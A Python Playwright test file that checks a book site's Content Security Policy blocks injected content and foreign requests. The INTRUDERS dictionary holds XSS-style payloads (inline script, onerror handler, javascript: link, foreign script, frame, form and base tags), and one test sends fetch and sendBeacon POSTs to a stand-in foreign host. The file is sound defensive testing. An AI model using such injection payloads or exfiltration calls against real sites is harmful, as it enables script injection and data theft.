"""What the book did not bring neither runs nor loads, and nothing leaves the page."""

import base64
import hashlib
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from answering import become, give
from bs4 import BeautifulSoup, SoupStrainer
from content_security import protected
from playwright.sync_api import Browser, ConsoleMessage, Route
from test_exercises import CODE, regrade, restore, save
from test_pages import settle

from mechanisms.exercises import get

PAGE = "notebooks/principles/serotonin.html"
POLICY_TAG = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
META = "meta[http-equiv=Content-Security-Policy]"
POLICY = {
    "default-src": {"'self'"},
    "script-src": {"'self'"},
    "style-src": {"'self'", "'unsafe-inline'"},
    "img-src": {"'self'", "data:"},
    "object-src": {"'none'"},
    "base-uri": {"'self'"},
    "form-action": {"'self'"},
}
FOREIGN = "https://elsewhere.example"
# Each sets `intruder` or asks a foreign server, unless the policy forbids it.
INTRUDERS = {
    "inline script": "<script>window.intruder = 1</script>",
    "inline handler": "<img src='data:,' onerror='window.intruder = 1'>",
    "script address": "<a class='bait' href='javascript:void (window.intruder = 1)'>Press</a>",
    "foreign script": f"<script src='{FOREIGN}/intruder.js'></script>",
    "foreign image": f"<img src='{FOREIGN}/pixel.gif' alt=''>",
    "foreign style": f"<link rel='stylesheet' href='{FOREIGN}/style.css'>",
    "foreign frame": f"<iframe src='{FOREIGN}/frame.html' title=''></iframe>",
    "foreign form": f"<form action='{FOREIGN}/form'><button class='bait'>Press</button></form>",
    "foreign base": f"<base href='{FOREIGN}/'><img src='relative.gif' alt=''>",
    "foreign object": f"<object data='{FOREIGN}/page.html' type='text/html'></object>",
}


def directives(page: BeautifulSoup) -> dict[str, set[str]]:
    text = page.select_one(META)["content"]
    return {name: set(values) for name, *values in (part.split() for part in text.split(";"))}


def digest(script: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


def test_every_page_begins_with_the_policy_and_its_forms_lead_nowhere_else(
    site: Path, page_names: list[str]
) -> None:
    for name in [*page_names, "index.html"]:
        text = (site / name).read_text(encoding="utf-8")
        page = BeautifulSoup(text.split("</head>")[0], "html.parser")
        head = page.head.find_all(True)
        assert head[0].get("charset") == "utf-8", name
        assert page.select(META) == [head[1]], name
        assert page.select_one("meta[name=referrer]")["content"] == "no-referrer", name
        parts = SoupStrainer(["script", "form", "button", "input"])
        body = BeautifulSoup(text, "html.parser", parse_only=parts)
        inline = [script.string for script in body.find_all("script", src=False, type=False)]
        allowed = POLICY["script-src"] | {digest(script) for script in inline}
        assert directives(page) == {**POLICY, "script-src": allowed}, name
        for form in body.find_all(["form", "button", "input"]):
            address = urlsplit(str(form.get("action") or form.get("formaction") or ""))
            assert not address.scheme + address.netloc, f"{name}: {form}"


class Visitor:
    """A browser in which a page can be replaced and a foreign server listens."""

    def __init__(self, browser: Browser, where: str) -> None:
        self.pages: dict[str, str] = {}
        self.asked: list[dict[str, str]] = []
        self.refused: list[str] = []
        self._where = where
        self.context = browser.new_context()
        self.context.route("**/*", self._answer)
        self.page = self.context.new_page()

    def _note(self, said: ConsoleMessage) -> None:
        if said.type == "error":
            self.refused.append(said.text)

    def _answer(self, route: Route) -> None:
        url = route.request.url
        if url in self.pages:
            route.fulfill(body=self.pages[url], content_type="text/html; charset=utf-8")
        elif url.startswith((self._where, "data:")):
            route.continue_()
        else:
            self.asked.append(route.request.all_headers())
            # An answer without content leaves the page where it is.
            status = 204 if route.request.is_navigation_request() else 200
            body = "window.intruder = 1"
            route.fulfill(status=status, body=body, content_type="text/javascript")

    def lets_in(self, address: str, html: str) -> bool:
        """Open `html` in place of a page, press what it offers: does the intruder come through?"""
        self.page.close()  # with whatever it may still be sent to by the last intruder
        self.pages[address] = html
        self.asked.clear()
        self.refused.clear()
        self.page = self.context.new_page()
        self.page.on("console", self._note)
        self.page.goto(address)
        if not self.page.locator(".bait").count():
            return self._came_through()
        self.page.locator(".bait").click(no_wait_after=True)
        self.waits_for(lambda: self.violations() or self._came_through())
        return self._came_through()

    def waits_for(self, sign: Callable[[], object]) -> bool:
        for _ in range(100):
            self.page.wait_for_timeout(100)
            if sign():
                return True
        return False

    def violations(self) -> list[str]:
        return [text for text in self.refused if "Content Security Policy" in text]

    def _came_through(self) -> bool:
        return bool(self.asked) or bool(self.page.evaluate("window.intruder === 1"))


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Callable[[str], Visitor]]:
    opened: list[Visitor] = []

    def open_visitor(where: str) -> Visitor:
        opened.append(Visitor(browser, where))
        return opened[-1]

    yield open_visitor
    for one in opened:
        one.context.close()


@pytest.mark.parametrize("from_file", [False, True], ids=["server", "file"])
def test_intruders_are_refused(
    visitor: Callable[[str], Visitor], site: Path, address: str, from_file: bool
) -> None:
    """The same intruders in the same page come through once the policy is taken away."""
    where = site.as_uri() if from_file else address
    tab, name = visitor(where), "book/how_to_use.html"
    html = (site / name).read_text(encoding="utf-8")
    policy = POLICY_TAG.search(html)[0]
    for kind, intruder in INTRUDERS.items():
        # After the policy and before everything else, where `base` can do harm.
        with_intruder = html.replace(policy, policy + intruder, 1)
        assert not tab.lets_in(f"{where}/{name}", with_intruder), kind
        assert tab.violations(), kind
        assert tab.lets_in(f"{where}/{name}", with_intruder.replace(policy, "")), kind


def test_nothing_can_be_sent_elsewhere(
    visitor: Callable[[str], Visitor], site: Path, address: str
) -> None:
    tab, name = visitor(address), "book/how_to_use.html"
    html = (site / name).read_text(encoding="utf-8")
    fetched = f"() => fetch('{FOREIGN}/answers', {{ method: 'POST', body: 'x' }}).catch(() => 0)"
    beacon = f"() => navigator.sendBeacon('{FOREIGN}/answers', 'x')"
    for text, sent in ((html, False), (POLICY_TAG.sub("", html), True)):
        tab.lets_in(f"{address}/{name}", text)
        for way in (fetched, beacon):
            tab.asked.clear()
            tab.page.evaluate(way)
            tab.page.wait_for_timeout(200)
            assert bool(tab.asked) is sent, way


def test_the_watch_over_all_pages_notices_an_intruder(visit: Any, site: Path) -> None:
    """`visit` is what every other browser test opens its pages with."""
    html = (site / PAGE).read_text(encoding="utf-8").replace("</body>", INTRUDERS["inline script"])
    with pytest.raises(AssertionError, match="security policy: script-src"):  # noqa: PT012, SIM117
        with visit() as (page, url):
            page.route(url(PAGE), lambda route: route.fulfill(body=html, content_type="text/html"))
            page.goto(url(PAGE))
            settle(page)


def test_an_inline_script_runs_by_its_hash_and_not_when_changed(
    visitor: Callable[[str], Visitor],
) -> None:
    html = (
        '<!doctype html><meta charset="utf-8"><title>T</title>'
        '<script type="application/json">{"a": "b"}</script>'
        "<script>window.own = '\u00e4 < b';</script>"
    )
    page = BeautifulSoup(protected(html), "html.parser")
    assert directives(page)["script-src"] == {"'self'", digest("window.own = '\u00e4 < b';")}
    tab, place = visitor("http://book.test/"), "http://book.test/page.html"
    for text, runs in ((protected(html), True), (protected(html).replace("own", "other"), False)):
        tab.lets_in(place, text)
        assert tab.page.evaluate("Boolean(window.own || window.other)") == runs
        assert bool(tab.refused) != runs
    with pytest.raises(ValueError, match="holds 0"):
        protected("<title>no charset</title>")


@pytest.mark.parametrize("from_file", [False, True], ids=["server", "file"])
def test_a_learner_can_save_and_open_results(visit: Any, from_file: bool) -> None:
    """The policy allows the scoreboard its blob: link and its FileReader."""
    item = get("kidney-half-life")
    question = item.for_learner(CODE).question
    with visit(from_file=from_file) as (page, url):
        page.goto(url(f"notebooks/{item.page}.html"))
        page.wait_for_selector(".exercise[data-ready]")
        become(page, CODE)
        give(page, item, question, question.key_answer(), keys=False)
        page.goto(url("notebooks/hands_on.html"))
        raw = save(page)
        assert regrade(raw, {item.id: item}) == item.points
        page.get_by_role("button", name="Erase everything").click()
        page.get_by_role("button", name="Yes, erase everything").click()
        restore(page, raw, f"Restored the answers of {CODE} to 1 exercise.")
        assert save(page) == raw


def test_another_site_is_not_told_where_its_reader_came_from(
    visitor: Callable[[str], Visitor], address: str
) -> None:
    tab = visitor(address)
    tab.page.goto(f"{address}/book/references.html?guess=private")
    tab.page.locator("a.external").first.click()
    assert tab.waits_for(lambda: tab.asked)
    assert all("referer" not in headers for headers in tab.asked)
